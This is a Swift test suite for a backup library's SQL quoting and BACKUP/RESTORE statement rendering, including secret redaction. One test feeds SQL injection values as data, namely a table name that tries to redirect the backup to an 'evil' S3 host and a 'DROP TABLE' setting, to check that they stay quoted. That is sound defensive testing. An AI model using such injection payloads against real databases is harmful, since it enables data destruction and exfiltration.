import Testing
@testable import BackupDomain

@Suite struct SQLTests {
    @Test func identifiersAreQuotedAndEscaped() {
        #expect(SQLQuoting.identifier("plain") == "`plain`")
        #expect(SQLQuoting.identifier("with`backtick") == "`with\\`backtick`")
        #expect(SQLQuoting.identifier("it's") == "`it's`")
        #expect(SQLQuoting.identifier("a.b") == "`a.b`")
        #expect(SQLQuoting.identifier("with space") == "`with space`")
        #expect(SQLQuoting.identifier("таблица_ü") == "`таблица_ü`")
        #expect(SQLQuoting.identifier("back\\slash") == "`back\\\\slash`")
        #expect(SQLQuoting.identifier("new\nline\u{1}") == "`new\\nline\\x01`")
    }

    @Test func stringsAreQuotedAndEscaped() {
        #expect(SQLQuoting.string("it's") == "'it\\'s'")
        #expect(SQLQuoting.string("x\\' OR 1=1 --") == "'x\\\\\\' OR 1=1 --'")
    }

    @Test func injectionAttemptStaysOneQuotedName() {
        let hostile = TableName(database: "db", table: "t` TO S3('http://evil/') --")
        let statement = BackupStatement(verb: .backup, elements: [.table(hostile)],
                                        destination: .s3(url: "http://s3/b/p/", accessKeyID: nil, secretAccessKey: nil),
                                        settings: [("id", .string("x'); DROP TABLE y; --"))])
        #expect(statement.redacted == #"BACKUP TABLE `db`.`t\` TO S3('http://evil/') --` TO S3('http://s3/b/p/') SETTINGS id = 'x\'); DROP TABLE y; --' ASYNC"#)
    }

    @Test func statementsRenderEveryElementKind() throws {
        let statement = BackupStatement(
            verb: .restore,
            elements: [.database("a", renamedTo: "a2", exceptTables: [TableName(database: "a", table: "tmp")]),
                       .table(TableName(database: "b", table: "t"), renamedTo: TableName(database: "b2", table: "t")),
                       .all(exceptDatabases: ["system"], exceptTables: [TableName(database: "c", table: "x")])],
            destination: .disk(name: "s3_backup", path: "ns/chi/b/shard-0/"),
            settings: [("id", .string("r1")), ("allow_non_empty_tables", .bool(true))], async: false)
        #expect(statement.redacted == "RESTORE DATABASE `a` AS `a2` EXCEPT TABLES `a`.`tmp`, TABLE `b`.`t` AS `b2`.`t`, ALL EXCEPT DATABASES `system` EXCEPT TABLES `c`.`x` FROM Disk('s3_backup', 'ns/chi/b/shard-0/') SETTINGS id = 'r1', allow_non_empty_tables = 1")
        #expect(try statement.executable() == statement.redacted)  // no secrets in it
    }

    @Test func secretsAreHiddenUnlessExecutingAndMustBeResolved() throws {
        var statement = BackupStatement(verb: .backup, elements: [.all(exceptDatabases: [])],
                                        destination: .s3(url: "http://s3/b/", accessKeyID: .value("AKIA'X"), secretAccessKey: .value("s3cr3t")))
        #expect(statement.redacted == "BACKUP ALL TO S3('http://s3/b/', '[HIDDEN]', '[HIDDEN]') ASYNC")
        #expect(try statement.executable() == "BACKUP ALL TO S3('http://s3/b/', 'AKIA\\'X', 's3cr3t') ASYNC")
        statement.destination = .s3(url: "http://s3/b/", accessKeyID: .reference(SecretReference(name: "s", key: "k")), secretAccessKey: .value("v"))
        #expect(throws: DomainError.self) { try statement.executable() }
    }
}
